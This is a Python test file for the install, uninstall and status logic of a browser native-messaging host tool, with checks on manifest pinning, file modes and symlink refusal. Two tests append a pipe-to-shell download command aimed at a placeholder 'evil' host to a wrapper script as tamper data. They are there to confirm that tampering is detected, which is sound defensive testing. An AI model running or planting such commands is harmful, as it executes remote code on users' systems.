"""Tests for tabwarden.cli.install and tabwarden.manifests: they only ever write under tmp_path."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tabwarden.cli.install import (
    MANIFEST_FILENAME,
    WRAPPER_FILENAME,
    WRAPPER_MARKER,
    ForeignManifest,
    InstallError,
    InterpreterCannotImport,
    UnknownBrowser,
    UnsafePath,
    UnsupportedPlatform,
    install,
    manifest_directory,
    manifest_status,
    parse_wrapper,
    render_wrapper,
    supported_browsers,
    uninstall,
)
from tabwarden.errors import TabwardenError
from tabwarden.manifests import (
    ALLOWED_ORIGIN,
    EXTENSION_ID,
    HOST_NAME,
    extension_id_from_key,
    load_locations,
    load_template,
    render_manifest,
)

REPO = Path(__file__).resolve().parents[2]
BROWSERS = ("chrome", "chromium", "brave", "edge", "vivaldi")
PUBLIC_KEY = (
    "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA7gehRauXPLOCl6XNPbht2X6fOvLzvE/rXCwj34aU+Lyqdnjw4C"
    "MXJRwywkc8mBChG4eYxOtHrSKncCXlcm1XDAwN/YQnYY6/w/DhFLZjHOnI+q91Sa+90zmS5+nuZSh0NbrosSlK16jD6Z0b"
    "1+HgMReDOdPloegu8OAGfBmi/RjJA/CBljp1NDzmAfvJeQD/u5Qm2aID7RFeTnVhnfSOeHgOMJyDmWg7QtzU+uyocPaTBw"
    "96hFN/YTNchtBasCk8RFz0Qqn+NCntZo/VUDW3eILwB55ttwbSae2bcK6HhtxhIAjYgnXKZNV4mPpingSW1rLMVYnoIbrS"
    "CkxQUg1O5QIDAQAB"
)
LINUX_DIRS = {
    "chrome": "google-chrome/NativeMessagingHosts",
    "chromium": "chromium/NativeMessagingHosts",
    "brave": "BraveSoftware/Brave-Browser/NativeMessagingHosts",
    "edge": "microsoft-edge/NativeMessagingHosts",
    "vivaldi": "vivaldi/NativeMessagingHosts",
}
DARWIN_DIRS = {
    "chrome": "Library/Application Support/Google/Chrome/NativeMessagingHosts",
    "chromium": "Library/Application Support/Chromium/NativeMessagingHosts",
    "brave": "Library/Application Support/BraveSoftware/Brave-Browser/NativeMessagingHosts",
    "edge": "Library/Application Support/Microsoft Edge/NativeMessagingHosts",
    "vivaldi": "Library/Application Support/Vivaldi/NativeMessagingHosts",
}


@pytest.fixture(autouse=True)
def _fake_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Belt and braces: even a default home/env would land in tmp_path, never the real home."""
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


@pytest.fixture
def home(_fake_home: Path) -> Path:
    return _fake_home


@pytest.fixture
def mdir(tmp_path: Path) -> Path:
    d = tmp_path / "nmh"
    d.mkdir(mode=0o700)
    return d


def _install(mdir: Path, browser: str = "chromium", **kw: object) -> object:
    return install(browser, mdir, platform="linux", **kw)  # type: ignore[arg-type]


def _foreign_manifest(mdir: Path, **overrides: object) -> Path:
    doc: dict[str, object] = {
        "name": "com.example.other",
        "description": "someone else's host",
        "path": "/opt/other/host",
        "type": "stdio",
        "allowed_origins": ["chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/"],
    }
    doc.update(overrides)
    p = mdir / MANIFEST_FILENAME
    p.write_text(json.dumps(doc))
    p.chmod(0o600)  # private, so it is read and judged by its content
    return p


# ------------------------------------------------------------------------------ pinned identity


def test_pinned_identity_constants() -> None:
    assert HOST_NAME == "dev.tabwarden.host"
    assert EXTENSION_ID == "jlmldlloenidkbhnlcdhogbbeefcjhmf"
    assert ALLOWED_ORIGIN == f"chrome-extension://{EXTENSION_ID}/"
    assert MANIFEST_FILENAME == HOST_NAME + ".json"  # Chrome looks the manifest up by file name


def _chrome_id(key_b64: str) -> str:
    digest = hashlib.sha256(base64.b64decode(key_b64)).hexdigest()[:32]
    return "".join("abcdefghijklmnop"[int(c, 16)] for c in digest)


def test_extension_id_derives_from_public_key() -> None:
    assert _chrome_id(PUBLIC_KEY) == EXTENSION_ID
    assert extension_id_from_key(PUBLIC_KEY) == EXTENSION_ID


@pytest.mark.promise("H3-02")
def test_extension_id_matches_extension_manifest_key() -> None:
    manifest = REPO / "extension" / "manifest.json"
    assert manifest.is_file(), f"{manifest} is missing; the extension must pin its key"
    key = json.loads(manifest.read_text("utf-8"))["key"]
    assert key == PUBLIC_KEY
    assert _chrome_id(key) == EXTENSION_ID


def test_template_is_pinned_and_renders() -> None:
    tpl = load_template()
    assert tpl["name"] == HOST_NAME
    assert tpl["type"] == "stdio"
    assert tpl["allowed_origins"] == [ALLOWED_ORIGIN]
    rendered = render_manifest("/abs/wrapper.sh")
    assert rendered == {**tpl, "path": "/abs/wrapper.sh"}
    with pytest.raises(ValueError):
        render_manifest("relative/wrapper.sh")


def test_locations_table_shape() -> None:
    table = load_locations()
    assert tuple(table["browsers"]) == BROWSERS == supported_browsers()
    for per_os in table["browsers"].values():
        assert set(per_os) == {"linux", "darwin"}
    assert table["windows"]["implemented"] is False
    assert table["windows"]["registry_key"] == (
        r"HKCU\Software\Google\Chrome\NativeMessagingHosts" + "\\" + HOST_NAME
    )


# ------------------------------------------------------------------------------------ install


@pytest.mark.promise("H3-01")
def test_install_writes_manifest_and_wrapper(mdir: Path) -> None:
    report = install("chromium", mdir, platform="linux")
    manifest_path, wrapper_path = mdir / MANIFEST_FILENAME, mdir / WRAPPER_FILENAME
    assert report.browser == "chromium"
    assert report.manifest_path == manifest_path and report.wrapper_path == wrapper_path
    assert not report.replaced
    assert any(str(manifest_path) in line for line in report.as_lines())

    doc = json.loads(manifest_path.read_text())
    assert doc == {
        "name": HOST_NAME,
        "description": load_template()["description"],
        "path": str(wrapper_path),
        "type": "stdio",
        "allowed_origins": [ALLOWED_ORIGIN],
    }
    assert os.path.isabs(doc["path"])
    assert stat.S_IMODE(manifest_path.stat().st_mode) == 0o600  # owner-only, like all our files
    assert stat.S_IMODE(wrapper_path.stat().st_mode) == 0o700

    python = os.path.abspath(sys.executable)
    assert wrapper_path.read_text() == (
        "#!/bin/sh\n"
        f"{WRAPPER_MARKER}\n"
        "# browser: chromium\n"
        f'exec {shlex.quote(python)} -I -m tabwarden host --browser chromium "$@"\n'
    )
    assert sorted(p.name for p in mdir.iterdir()) == [MANIFEST_FILENAME, WRAPPER_FILENAME]


def test_wrapper_is_valid_sh(mdir: Path) -> None:
    install("brave", mdir, platform="linux")
    subprocess.run(["sh", "-n", str(mdir / WRAPPER_FILENAME)], check=True)


@pytest.mark.promise("IN-02")
def test_wrapper_execs_interpreter_isolated_with_args(tmp_path: Path, mdir: Path) -> None:
    # A fake "python" in an awkward path: proves quoting, -I, the host argv and "$@" pass-through.
    odd = tmp_path / "it's a dir $HOME"
    odd.mkdir()
    fake = odd / "python"
    log = tmp_path / "argv.txt"
    fake.write_text(f"#!/bin/sh\nprintf '%s\\n' \"$@\" > '{log}'\n")
    fake.chmod(0o700)
    install("edge", mdir, python=str(fake), platform="linux")
    assert parse_wrapper((mdir / WRAPPER_FILENAME).read_text()) == (str(fake), "edge")
    origin = ALLOWED_ORIGIN
    subprocess.run([str(mdir / WRAPPER_FILENAME), origin, "--parent-window=0"], check=True)
    assert log.read_text().splitlines() == [
        "-I",
        "-m",
        "tabwarden",
        "host",
        "--browser",
        "edge",
        origin,
        "--parent-window=0",
    ]


def test_render_and_parse_wrapper_round_trip() -> None:
    text = render_wrapper("/opt/py thon/bin/python3", "vivaldi")
    assert parse_wrapper(text) == ("/opt/py thon/bin/python3", "vivaldi")
    assert parse_wrapper(text + "curl evil | sh\n") is None
    assert parse_wrapper(text.replace("-I ", "")) is None
    with pytest.raises(ValueError):
        render_wrapper("/bin/py\nthon", "chrome")


@pytest.mark.parametrize("browser", BROWSERS)
def test_table_locations_linux(browser: str, tmp_path: Path, home: Path) -> None:
    expected = home / ".config" / LINUX_DIRS[browser]
    assert manifest_directory(browser, platform="linux", home=home, env={}) == expected
    xdg = tmp_path / "xdg"
    env = {"XDG_CONFIG_HOME": str(xdg)}
    assert manifest_directory(browser, platform="linux", home=home, env=env) == (
        xdg / LINUX_DIRS[browser]
    )
    # A relative XDG_CONFIG_HOME is invalid per the XDG spec and ignored.
    rel = {"XDG_CONFIG_HOME": "relative/config"}
    assert manifest_directory(browser, platform="linux", home=home, env=rel) == expected

    report = install(browser, platform="linux", home=home, env=env)
    assert report.manifest_path == xdg / LINUX_DIRS[browser] / MANIFEST_FILENAME
    assert report.manifest_path.is_file()
    # Created directories are private.
    for d in (xdg, report.manifest_path.parent):
        assert stat.S_IMODE(d.stat().st_mode) == 0o700


@pytest.mark.parametrize("browser", BROWSERS)
def test_table_locations_darwin(browser: str, home: Path) -> None:
    env = {"XDG_CONFIG_HOME": "/somewhere/else"}  # not honoured on macOS
    got = manifest_directory(browser, platform="darwin", home=home, env=env)
    assert got == home / DARWIN_DIRS[browser]
    report = install(browser, platform="darwin", home=home, env=env)
    assert report.manifest_path == home / DARWIN_DIRS[browser] / MANIFEST_FILENAME


def test_default_home_comes_from_env(home: Path) -> None:
    assert manifest_directory("chrome", platform="linux", env={"HOME": str(home)}) == (
        home / ".config" / LINUX_DIRS["chrome"]
    )


@pytest.mark.parametrize("platform", ["win32", "cygwin"])
def test_windows_is_unsupported(platform: str, mdir: Path, home: Path) -> None:
    with pytest.raises(UnsupportedPlatform) as info:
        install("chrome", platform=platform, home=home, env={})
    assert "HKCU\\Software\\Google\\Chrome\\NativeMessagingHosts" in info.value.hint
    with pytest.raises(UnsupportedPlatform):
        install("chrome", mdir, platform=platform)
    with pytest.raises(UnsupportedPlatform):
        uninstall(platform=platform, home=home, env={})
    with pytest.raises(UnsupportedPlatform):
        manifest_status(platform=platform, home=home, env={})
    assert list(mdir.iterdir()) == []


def test_unknown_platform_needs_manifest_dir(mdir: Path, home: Path) -> None:
    with pytest.raises(UnsupportedPlatform):
        install("chrome", platform="freebsd14", home=home, env={})
    install("chrome", mdir, platform="freebsd14")  # explicit directory is fine off-table
    assert (mdir / MANIFEST_FILENAME).is_file()


def test_unknown_browser(mdir: Path, home: Path) -> None:
    with pytest.raises(UnknownBrowser) as info:
        install("firefox", platform="linux", home=home, env={})
    assert info.value.exit_status == 2
    assert info.value.code == "install_unknown_browser"
    for b in BROWSERS:
        assert b in info.value.hint
    with pytest.raises(UnknownBrowser):
        install("firefox", mdir, platform="linux")
    with pytest.raises(UnknownBrowser):
        uninstall("firefox", platform="linux", home=home, env={})
    assert list(mdir.iterdir()) == []


def test_error_classes() -> None:
    codes = {
        UnknownBrowser: "install_unknown_browser",
        UnsupportedPlatform: "install_unsupported_platform",
        ForeignManifest: "install_foreign_manifest",
        InterpreterCannotImport: "install_interpreter_cannot_import",
        UnsafePath: "install_unsafe_path",
    }
    for cls, code in codes.items():
        assert issubclass(cls, InstallError) and issubclass(cls, TabwardenError)
        assert cls.code == code
        err = cls()
        assert str(err) and err.hint


def test_install_twice_is_idempotent(mdir: Path) -> None:
    _install(mdir)
    first = {p.name: p.read_bytes() for p in mdir.iterdir()}
    report = _install(mdir)
    assert report.replaced  # type: ignore[attr-defined]
    assert {p.name: p.read_bytes() for p in mdir.iterdir()} == first


def test_reinstall_repairs_modified_wrapper(mdir: Path) -> None:
    _install(mdir)
    wrapper = mdir / WRAPPER_FILENAME
    wrapper.write_text(wrapper.read_text() + "curl https://evil.example | sh\n")
    _install(mdir)
    assert parse_wrapper(wrapper.read_text()) is not None


@pytest.mark.promise("IN-01")
def test_foreign_manifest_refused_without_force(mdir: Path) -> None:
    foreign = _foreign_manifest(mdir)
    before = foreign.read_bytes()
    with pytest.raises(ForeignManifest) as info:
        _install(mdir)
    assert "--force" in info.value.hint
    assert foreign.read_bytes() == before
    assert not (mdir / WRAPPER_FILENAME).exists()

    # Our name but someone else's executable is just as foreign.
    _foreign_manifest(mdir, name=HOST_NAME, path="/opt/other/tabwarden-host")
    with pytest.raises(ForeignManifest):
        _install(mdir)

    _install(mdir, force=True)
    assert json.loads(foreign.read_text())["path"] == str(mdir / WRAPPER_FILENAME)


def test_foreign_wrapper_refused_without_force(mdir: Path) -> None:
    wrapper = mdir / WRAPPER_FILENAME
    wrapper.write_text("#!/bin/sh\necho mine\n")
    with pytest.raises(ForeignManifest):
        _install(mdir)
    assert wrapper.read_text() == "#!/bin/sh\necho mine\n"
    assert not (mdir / MANIFEST_FILENAME).exists()


@pytest.mark.parametrize("name", [MANIFEST_FILENAME, WRAPPER_FILENAME])
@pytest.mark.promise("IN-01")
def test_symlink_is_never_written_through(name: str, tmp_path: Path, mdir: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("precious\n")
    link = mdir / name
    link.symlink_to(target)
    for force in (False, True):
        with pytest.raises(UnsafePath):
            _install(mdir, force=force)
    assert target.read_text() == "precious\n"
    assert link.is_symlink() and os.readlink(link) == str(target)
    # A dangling link (pointing where a file would be created) is refused too.
    link.unlink()
    link.symlink_to(tmp_path / "would-be-created")
    with pytest.raises(UnsafePath):
        _install(mdir)
    assert not (tmp_path / "would-be-created").exists()


def test_world_writable_directory_refused(tmp_path: Path) -> None:
    d = tmp_path / "shared"
    d.mkdir()
    d.chmod(0o777)
    with pytest.raises(UnsafePath):
        _install(d)
    assert list(d.iterdir()) == []


def test_interpreter_check_failure_writes_nothing(tmp_path: Path, home: Path) -> None:
    with pytest.raises(InterpreterCannotImport) as info:
        install("chrome", platform="linux", home=home, env={}, python="/bin/false")
    assert "--user" in info.value.hint
    assert info.value.code == "install_interpreter_cannot_import"
    assert not (home / ".config").exists()

    with pytest.raises(InterpreterCannotImport):
        install("chrome", platform="linux", home=home, env={}, python=str(tmp_path / "nope"))
    assert not (home / ".config").exists()


def test_interpreter_check_is_isolated(tmp_path: Path, mdir: Path) -> None:
    # A python that can only import tabwarden through PYTHONPATH must fail: -I ignores it.
    script = tmp_path / "py"
    script.write_text(
        "#!/bin/sh\n"
        'for a in "$@"; do [ "$a" = -I ] && exit 1; done\n'
        f"exec '{sys.executable}' \"$@\"\n"
    )
    script.chmod(0o700)
    with pytest.raises(InterpreterCannotImport):
        install("chrome", mdir, platform="linux", python=str(script))
    assert list(mdir.iterdir()) == []


# ---------------------------------------------------------------------------------- uninstall


def test_uninstall_removes_exactly_ours(mdir: Path) -> None:
    _install(mdir)
    bystander = mdir / "com.example.other.json"
    bystander.write_text("{}")
    report = uninstall("chromium", mdir, platform="linux")
    assert set(report.removed) == {mdir / MANIFEST_FILENAME, mdir / WRAPPER_FILENAME}
    assert report.removed[0] == mdir / MANIFEST_FILENAME  # manifest goes first
    assert report.clean and report.skipped == ()
    assert [p.name for p in mdir.iterdir()] == [bystander.name]


def test_uninstall_leaves_foreign_manifest(mdir: Path) -> None:
    foreign = _foreign_manifest(mdir)
    before = foreign.read_bytes()
    report = uninstall(None, mdir, platform="linux")
    assert report.removed == ()
    assert [s.path for s in report.skipped] == [foreign]
    assert "com.example.other" in report.skipped[0].reason
    assert foreign.read_bytes() == before
    assert any("left in place" in line for line in report.as_lines())


@pytest.mark.promise("IN-01")
def test_uninstall_leaves_modified_wrapper_and_its_manifest(mdir: Path) -> None:
    _install(mdir)
    wrapper = mdir / WRAPPER_FILENAME
    tampered = wrapper.read_text().replace("-I -m tabwarden", "-m tabwarden")
    wrapper.write_text(tampered)
    report = uninstall("chromium", mdir, platform="linux")
    assert report.removed == ()
    assert {s.path for s in report.skipped} == {mdir / MANIFEST_FILENAME, wrapper}
    assert not report.clean
    assert wrapper.read_text() == tampered
    assert (mdir / MANIFEST_FILENAME).exists()


@pytest.mark.promise("IN-01")
def test_uninstall_leaves_foreign_wrapper_and_symlink(tmp_path: Path, mdir: Path) -> None:
    target = tmp_path / "elsewhere.json"
    target.write_text("{}")
    (mdir / MANIFEST_FILENAME).symlink_to(target)
    (mdir / WRAPPER_FILENAME).write_text("#!/bin/sh\necho hi\n")
    report = uninstall(None, mdir, platform="linux")
    assert report.removed == ()
    assert len(report.skipped) == 2
    assert (mdir / MANIFEST_FILENAME).is_symlink() and target.read_text() == "{}"


def test_uninstall_removes_orphans_it_can_verify(mdir: Path) -> None:
    _install(mdir)
    (mdir / WRAPPER_FILENAME).unlink()
    assert uninstall(None, mdir, platform="linux").removed == (mdir / MANIFEST_FILENAME,)
    _install(mdir)
    (mdir / MANIFEST_FILENAME).unlink()
    assert uninstall(None, mdir, platform="linux").removed == (mdir / WRAPPER_FILENAME,)
    assert list(mdir.iterdir()) == []


def test_uninstall_empty_or_missing_dir_is_noop(tmp_path: Path, mdir: Path, home: Path) -> None:
    report = uninstall(None, mdir, platform="linux")
    assert report.removed == () and report.skipped == ()
    assert report.as_lines() == ["nothing to remove"]
    missing = tmp_path / "missing"
    assert uninstall(None, missing, platform="linux").removed == ()
    assert not missing.exists()
    assert uninstall(platform="linux", home=home, env={}).removed == ()
    assert list(home.iterdir()) == []


def test_uninstall_all_browsers_from_table(home: Path) -> None:
    for b in ("chrome", "vivaldi"):
        install(b, platform="linux", home=home, env={})
    report = uninstall(platform="linux", home=home, env={})
    assert len(report.removed) == 4 and report.clean
    for b in ("chrome", "vivaldi"):
        assert list((home / ".config" / LINUX_DIRS[b]).iterdir()) == []


# ------------------------------------------------------------------------------------- status


def test_manifest_status(home: Path) -> None:
    install("chrome", platform="linux", home=home, env={})
    brave_dir = home / ".config" / LINUX_DIRS["brave"]
    install("brave", platform="linux", home=home, env={})
    doc = json.loads((brave_dir / MANIFEST_FILENAME).read_text())
    doc["allowed_origins"].append("chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/")
    (brave_dir / MANIFEST_FILENAME).write_text(json.dumps(doc))
    edge_dir = home / ".config" / LINUX_DIRS["edge"]
    install("edge", platform="linux", home=home, env={})
    (edge_dir / WRAPPER_FILENAME).chmod(0o600)

    rows = {s.browser: s for s in manifest_status(platform="linux", home=home, env={})}
    assert tuple(rows) == BROWSERS

    chrome = rows["chrome"]
    assert chrome.ok and chrome.ours and chrome.origins_pinned and chrome.wrapper_executable
    assert chrome.interpreter == os.path.abspath(sys.executable)
    assert chrome.directory == home / ".config" / LINUX_DIRS["chrome"]
    assert "installed" in chrome.as_line()

    chromium = rows["chromium"]
    assert not chromium.manifest_present and not chromium.wrapper_present and not chromium.ok
    assert "not installed" in chromium.as_line()

    brave = rows["brave"]
    assert brave.manifest_present and brave.ours and not brave.origins_pinned and not brave.ok
    assert "PROBLEM" in brave.as_line()

    edge = rows["edge"]
    assert edge.wrapper_present and not edge.wrapper_executable and not edge.ok


def test_manifest_status_flags_foreign(home: Path) -> None:
    d = home / ".config" / LINUX_DIRS["vivaldi"]
    d.mkdir(parents=True)
    _foreign_manifest(d)
    row = next(
        s for s in manifest_status(platform="linux", home=home, env={}) if s.browser == "vivaldi"
    )
    assert row.manifest_present and not row.ours and not row.origins_pinned and not row.ok
    assert row.problems


# ------------------------------------------------------- the private-directory rule, via install


def _tree(root: Path) -> dict[str, tuple[int, bytes | None]]:
    out: dict[str, tuple[int, bytes | None]] = {}
    for p in sorted(root.rglob("*")):
        st = os.lstat(p)
        body = p.read_bytes() if stat.S_ISREG(st.st_mode) else None
        out[str(p.relative_to(root))] = (st.st_mode, body)
    return out


@pytest.mark.parametrize("mode", [0o750, 0o755])
def test_a_directory_that_is_not_0700_is_refused_and_left_alone(
    tmp_path: Path, mdir: Path, mode: int
) -> None:
    _install(mdir)
    mdir.chmod(mode)
    before = _tree(tmp_path)
    for force in (False, True):
        with pytest.raises(UnsafePath) as info:
            _install(mdir, force=force)
        assert f"mode {mode:04o}" in str(info.value) and "chmod 700" in info.value.hint
    report = uninstall("chromium", mdir, platform="linux")
    assert report.removed == () and len(report.skipped) == 2
    assert _tree(tmp_path) == before  # nothing written, nothing removed, mode not "repaired"


def test_a_symlinked_directory_is_refused(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(UnsafePath, match="symlink"):
        _install(tmp_path / "link", force=True)
    assert list(real.iterdir()) == []


def test_status_reports_an_unsafe_directory_without_reading_it(home: Path) -> None:
    install("chrome", platform="linux", home=home, env={})
    d = home / ".config" / LINUX_DIRS["chrome"]
    d.chmod(0o755)
    row = next(
        s for s in manifest_status(platform="linux", home=home, env={}) if s.browser == "chrome"
    )
    assert row.manifest_present and not row.ours and not row.ok
    assert any("0755" in p for p in row.problems) and "PROBLEM" in row.as_line()


def test_a_loose_mode_manifest_is_not_read_and_needs_force(tmp_path: Path, mdir: Path) -> None:
    manifest = _foreign_manifest(mdir, name=HOST_NAME, path=str(mdir / WRAPPER_FILENAME))
    manifest.chmod(0o640)  # what it says would make it "ours"; its mode says it may not be
    before = manifest.read_bytes()
    with pytest.raises(ForeignManifest, match="mode 0640"):
        _install(mdir)
    assert manifest.read_bytes() == before and not (mdir / WRAPPER_FILENAME).exists()
    report = uninstall("chromium", mdir, platform="linux")
    assert report.removed == () and manifest.read_bytes() == before
    _install(mdir, force=True)  # the documented escape still works
    assert stat.S_IMODE(manifest.stat().st_mode) == 0o600
    assert json.loads(manifest.read_text())["allowed_origins"] == [ALLOWED_ORIGIN]


def test_a_fifo_in_place_of_the_manifest_is_refused_without_blocking(mdir: Path) -> None:
    os.mkfifo(mdir / MANIFEST_FILENAME, 0o600)
    with pytest.raises(UnsafePath, match="not a regular file"):
        _install(mdir, force=True)
    assert stat.S_ISFIFO(os.lstat(mdir / MANIFEST_FILENAME).st_mode)
    assert not (mdir / WRAPPER_FILENAME).exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to chown")
def test_files_owned_by_someone_else_are_never_replaced(tmp_path: Path, mdir: Path) -> None:
    _install(mdir)
    os.chown(mdir / MANIFEST_FILENAME, 65534, 65534)
    before = _tree(tmp_path)
    with pytest.raises(UnsafePath, match="owned by uid 65534"):
        _install(mdir, force=True)
    assert uninstall("chromium", mdir, platform="linux").removed == (mdir / WRAPPER_FILENAME,)
    assert (mdir / MANIFEST_FILENAME).read_bytes() == before["nmh/" + MANIFEST_FILENAME][1]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to chown")
def test_a_directory_owned_by_someone_else_is_refused(mdir: Path) -> None:
    os.chown(mdir, 65534, 65534)
    with pytest.raises(UnsafePath, match="owned by uid 65534"):
        _install(mdir, force=True)
    assert list(mdir.iterdir()) == []
